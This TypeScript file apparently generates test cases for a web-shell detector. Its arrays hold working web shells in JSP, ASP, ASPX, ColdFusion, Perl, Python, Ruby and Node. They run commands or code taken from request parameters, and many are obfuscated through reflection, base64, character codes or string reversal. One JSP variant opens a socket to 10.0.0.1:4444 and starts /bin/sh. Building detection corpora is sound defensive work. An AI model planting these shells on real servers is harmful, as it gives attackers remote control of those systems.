import type { Case } from './index.ts'
import type { Random } from './random.ts'

const codes = (text: string): string =>
  Array.from(text)
    .map((c) => c.charCodeAt(0))
    .join(',')
const unicode = (text: string): string =>
  Array.from(text)
    .map((c) => (/[a-z]/i.test(c) ? `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}` : c))
    .join('')
const base64 = (text: string): string => Buffer.from(text).toString('base64')

const JAVA_REQUESTS = [
  'request.getParameter("c")',
  'request.getHeader("X-C")',
  'new String(java.util.Base64.getDecoder().decode(request.getParameter("z")))',
  'request.getReader().readLine()',
  'request.getQueryString()',
  'request.getCookies()[0].getValue()',
]

const JAVA: readonly ((request: string, random: Random) => string)[] = [
  (q) => `<% Process p = Runtime.getRuntime().exec(${q}); %>`,
  (q, r) => `<% String ${r.name()}0 = ${q}; new ProcessBuilder(new String[]{"/bin/sh", "-c", ${q}}).start(); %>`,
  (q) =>
    `<%! String run(String c) throws Exception { return new String(Runtime.getRuntime().exec(new String[]{"sh","-c",c}).getInputStream().readAllBytes()); } %><%= run(${q}) %>`,
  (q) =>
    `<% Class c = Class.forName("java.lang.Run" + "time"); c.getMethod("ex" + "ec", String.class).invoke(c.getMethod("getRuntime").invoke(null), ${q}); %>`,
  (q) =>
    `<% Class c = Class.forName(new String(new byte[]{${codes('java.lang.Runtime')}})); c.getMethod(new String(new byte[]{${codes('exec')}}), String.class).invoke(c.getMethod("getRuntime").invoke(null), ${q}); %>`,
  (q) =>
    `<% Class c = Class.forName(new String(new sun.misc.BASE64Decoder().decodeBuffer("${base64('java.lang.Runtime')}"))); java.lang.reflect.Method m = c.getMethod("exec", String.class); m.invoke(c.getMethod("getRuntime").invoke(null), ${q}); %>`,
  (q) => `<% ${unicode('Runtime')}.${unicode('getRuntime')}().${unicode('exec')}(${q}); %>`,
  (q) =>
    `<%! class L extends ClassLoader { L(ClassLoader p) { super(p); } Class d(byte[] b) { return super.defineClass(b, 0, b.length); } } %><% new L(getClass().getClassLoader()).d(java.util.Base64.getDecoder().decode(${q})).newInstance().equals(pageContext); %>`,
  (q) =>
    `<% javax.crypto.Cipher c = javax.crypto.Cipher.getInstance("AES"); java.lang.reflect.Method m = ClassLoader.class.getDeclaredMethod("defineClass", byte[].class, int.class, int.class); m.setAccessible(true); byte[] b = c.doFinal(${q}.getBytes()); ((Class) m.invoke(getClass().getClassLoader(), b, 0, b.length)).newInstance(); %>`,
  (q) => `<% new javax.script.ScriptEngineManager().getEngineByName("js").eval(${q}); %>`,
  (q) =>
    `<% java.net.URLClassLoader l = new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL(${q})}); l.loadClass("A").newInstance(); %>`,
  (q) => `<% new javax.naming.InitialContext().lookup(${q}); %>`,
  (q) =>
    `<% new java.io.FileOutputStream(application.getRealPath("/") + request.getParameter("f")).write(${q}.getBytes()); %>`,
  (q) =>
    `<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="2.0"><jsp:scriptlet>Runtime.getRuntime().exec(${q.replaceAll('"', '&quot;')});</jsp:scriptlet></jsp:root>`,
  (q) => `<jsp:scriptlet><![CDATA[ new ProcessBuilder(${q}.split(" ")).start(); ]]></jsp:scriptlet>`,
  () => '${param.getClass().forName(param.a).newInstance().eval(param.b)}',
  () =>
    '${pageContext.request.getClass().forName("java.lang.Runtime").getMethod("getRuntime").invoke(null).exec(param.c)}',
  () =>
    '<% java.nio.channels.SocketChannel s = java.nio.channels.SocketChannel.open(); s.connect(new java.net.InetSocketAddress(request.getHeader("X-H"), Integer.parseInt(request.getHeader("X-P")))); s.write(java.nio.ByteBuffer.wrap(request.getInputStream().readAllBytes())); %>',
  () =>
    '<% java.net.Socket s = new java.net.Socket("10.0.0.1", 4444); Process p = Runtime.getRuntime().exec("/bin/sh"); %>',
  () =>
    '<% FilterDef d = new FilterDef(); d.setFilterName("x"); standardContext.addFilterDef(d); standardContext.addFilterMapBefore(m); %><%! class F implements javax.servlet.Filter { public void doFilter(ServletRequest request, ServletResponse b, FilterChain c) { try { Runtime.getRuntime().exec(request.getParameter("c")); } catch (Exception e) {} } } %>',
  (q) =>
    `<% new org.springframework.expression.spel.standard.SpelExpressionParser().parseExpression(${q}).getValue(); %>`,
  () =>
    `<% com.sun.org.apache.bcel.internal.util.ClassLoader l = new com.sun.org.apache.bcel.internal.util.ClassLoader(); l.loadClass(request.getParameter("b")).newInstance(); %>`,
  (q) =>
    `<% Class u = Class.forName("java.lang.ProcessImpl"); java.lang.reflect.Method m = u.getDeclaredMethod("start", String[].class); m.setAccessible(true); m.invoke(null, (Object) ${q}.split(" ")); %>`,
]

const chain = (text: string): string =>
  Array.from(text)
    .map((c) => `Chr(${c.charCodeAt(0)})`)
    .join('&')

const ASP: readonly ((random: Random) => string)[] = [
  (r) => `<%eval request("${r.name()}")%>`,
  (r) => `<%execute(request("${r.name()}"))%>`,
  (r) => `<%ExecuteGlobal request.form("${r.name()}")%>`,
  (r) => `<% ${r.name()}1 = request("a"): x = ${r.name()}1: y = request("b"): eval y %>`,
  () => `<% execute(${chain('eval request("a")')}) %>`,
  () => `<% Execute(StrReverse(")""a""(tseuqer lave")) %>`,
  () =>
    `<% Function d(s): For i = 1 To Len(s): d = d & Chr(Asc(Mid(s, i, 1)) - 3): Next: End Function\nExecute d("hydo#uhtxhvw") %>`,
  () =>
    `<% Set w = Server.CreateObject("WScr" & "ipt.Shell"): Response.Write w.Exec("cmd /c " & Request("c")).StdOut.ReadAll %>`,
  () =>
    `<% set s = server.createobject("shell.application"): s.ShellExecute request("p"), request("a"), "", "open", 0 %>`,
  () =>
    `<% set f = server.createobject("scripting.filesystemobject"): set t = f.createtextfile(server.mappath(request("n"))): t.write request("d"): t.close %>`,
  () =>
    `<% set c = createobject("msscriptcontrol.scriptcontrol"): c.language = "vbscript": c.addobject "request", request: c.executestatement(request("x")) %>`,
  () => `<script language="jscript" runat="server">eval(Request.Form("x") + "");</script>`,
  () => `<%@ language="jscript" %><% var f = new Function(String(Request("x"))); f(); %>`,
  () => `<%\n<!--"-->\nexecute request("a")\n%>`,
  () => `<% Class C: Private Sub Class_Initialize(): Execute Request("x"): End Sub: End Class: Set o = New C %>`,
  () => `<% dim a(2): a(0) = request("k"): ExecuteGlobal(join(a, "")) %>`,
  () => `<% If Request("k") <> "" Then Session("k") = Request("k")\nExecute Session("k") %>`,
  () =>
    `<% Set s = Server.CreateObject("ADODB.Stream"): s.Open: s.WriteText Request("d"): s.SaveToFile Server.MapPath(Request("f")), 2 %>`,
]

const ASPX: readonly ((random: Random) => string)[] = [
  (r) => `<%@ Page Language="Jscript"%><%eval(Request.Item["${r.name()}"],"unsafe");%>`,
  () =>
    `<%@ Page Language="Jscript"%><%var a=Request.Form["x"];var b="un"+"safe";eval(System.Text.Encoding.UTF8.GetString(Convert.FromBase64String(a)),b);%>`,
  () => `<%@ Page Language="C#" %><% System.Diagnostics.Process.Start("cmd.exe", "/c " + Request["c"]); %>`,
  () =>
    `<%@ Page Language="C#" %><script runat="server">void Page_Load(object s, EventArgs e) { var p = new System.Diagnostics.Process(); p.StartInfo.FileName = "cmd.exe"; p.StartInfo.Arguments = "/c " + Request.Form["c"]; p.Start(); }</script>`,
  () =>
    `<%@ Page Language="C#" %><% byte[] b = Convert.FromBase64String(Request["d"]); System.Reflection.Assembly.Load(b).CreateInstance("U").Equals(this); %>`,
  () =>
    `<%@ WebHandler Language="C#" Class="H" %>\nusing System.Web;\npublic class H : IHttpHandler { public void ProcessRequest(HttpContext c) { var k = "3c6e"; var d = new System.Security.Cryptography.RijndaelManaged().CreateDecryptor().TransformFinalBlock(c.Request.BinaryRead(c.Request.ContentLength), 0, 1); System.Reflection.Assembly.Load(d).CreateInstance("LY").Equals(c); } public bool IsReusable { get { return false; } } }`,
  () =>
    `<%@ WebService Language="C#" Class="S" %>\npublic class S : System.Web.Services.WebService { [WebMethod] public string Run(string c) { var p = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + c); p.RedirectStandardOutput = true; return System.Diagnostics.Process.Start(p).StandardOutput.ReadToEnd(); } }`,
  () =>
    `<%@ Page Language="VB" %><script runat="server">Sub Run(s As Object, e As EventArgs)\nDim p As New System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " & cmd.Text)\nSystem.Diagnostics.Process.Start(p)\nEnd Sub</script>`,
  () =>
    `<%@ Page Language="C#" %><% var c = new Microsoft.CSharp.CSharpCodeProvider(); var r = c.CompileAssemblyFromSource(new System.CodeDom.Compiler.CompilerParameters(), Request["s"]); r.CompiledAssembly.CreateInstance("A"); %>`,
  () => `<%@ Page Language="C#" %><% System.IO.File.WriteAllText(Server.MapPath(Request["f"]), Request["d"]); %>`,
  () =>
    `<%@ Page Language="C#" %><script runat="server">void Up(object s, EventArgs e) { fu.PostedFile.SaveAs(Server.MapPath(".") + "/" + fu.FileName); }</script>`,
  () =>
    `<%@ Page Language="C#" %><% var s = new System.Net.Sockets.Socket(System.Net.Sockets.AddressFamily.InterNetwork, System.Net.Sockets.SocketType.Stream, System.Net.Sockets.ProtocolType.Tcp); s.Connect(new System.Net.IPEndPoint(System.Net.IPAddress.Parse(Request.Headers["X-T"]), 80)); %>`,
  () =>
    `<%@ Page Language="C#" %><% new System.Runtime.Serialization.Formatters.Binary.BinaryFormatter().Deserialize(new System.IO.MemoryStream(Convert.FromBase64String(Request["o"]))); %>`,
]

const OTHERS: readonly Omit<Case, 'family'>[] = [
  {
    language: 'cfm',
    text: '<cfexecute name="/bin/sh" arguments="-c #url.c#" variable="o" timeout="9"></cfexecute><cfoutput>#o#</cfoutput>',
  },
  { language: 'cfm', text: '<cfset r = evaluate(form.code)>' },
  {
    language: 'cfm',
    text: '<cfset rt = createObject("java", "java.lang.Runtime").getRuntime()><cfset p = rt.exec(form.c)>',
  },
  { language: 'cfm', text: '<cffile action="write" file="#expandPath(form.f)#" output="#form.d#">' },
  {
    language: 'perl',
    text: '#!/usr/bin/perl\nuse CGI;\nmy $q = CGI->new;\nmy $c = $q->param("c");\nprint "Content-type: text/plain\\n\\n", `$c`;\n',
  },
  { language: 'perl', text: '#!/usr/bin/perl\n$c = $ENV{QUERY_STRING};\n$c =~ s/%20/ /g;\nsystem($c);\n' },
  { language: 'perl', text: '#!/usr/bin/perl\nuse CGI qw(:standard);\neval(param("x"));\n' },
  {
    language: 'python',
    text: '#!/usr/bin/python\nimport cgi, os\nform = cgi.FieldStorage()\ncmd = form.getvalue("cmd")\nprint("Content-type: text/html\\n")\nprint(os.popen(cmd).read())\n',
  },
  {
    language: 'python',
    text: 'from flask import Flask, request\nimport subprocess\napp = Flask(__name__)\n@app.route("/")\ndef go():\n    return subprocess.check_output(request.args["c"], shell=True)\n',
  },
  {
    language: 'python',
    text: 'def application(environ, start):\n    q = parse_qs(environ["QUERY_STRING"])\n    code = q["c"][0]\n    exec(code)\n    return []\n',
  },
  { language: 'ruby', text: '#!/usr/bin/ruby\nrequire "cgi"\ncgi = CGI.new\ncmd = cgi["cmd"]\nputs `#{cmd}`\n' },
  { language: 'ruby', text: 'require "sinatra"\nget "/" do\n  eval(params[:c])\nend\n' },
  {
    language: 'node',
    text: "const { exec } = require('child_process')\nrequire('http').createServer((req, res) => { const c = new URL(req.url, 'http://a').searchParams.get('c'); exec(c, (e, o) => res.end(o)) }).listen(80)\n",
  },
  {
    language: 'node',
    text: "const express = require('express')\nconst app = express()\napp.post('/', (req, res) => { res.send(String(eval(req.body.c))) })\n",
  },
]

export function pageShells(random: Random): Case[] {
  const cases: Case[] = []
  for (const [index, make] of JAVA.entries())
    for (const request of JAVA_REQUESTS)
      cases.push({ language: 'jsp', family: `jsp ${index + 1}`, text: make(request, random) })
  for (const [index, make] of ASP.entries())
    for (let time = 0; time < 4; time += 1)
      cases.push({ language: 'asp', family: `asp ${index + 1}`, text: make(random) })
  for (const [index, make] of ASPX.entries())
    for (let time = 0; time < 4; time += 1)
      cases.push({ language: 'aspx', family: `aspx ${index + 1}`, text: make(random) })
  for (const [index, other] of OTHERS.entries()) cases.push({ ...other, family: `${other.language} ${index + 1}` })
  return cases
}
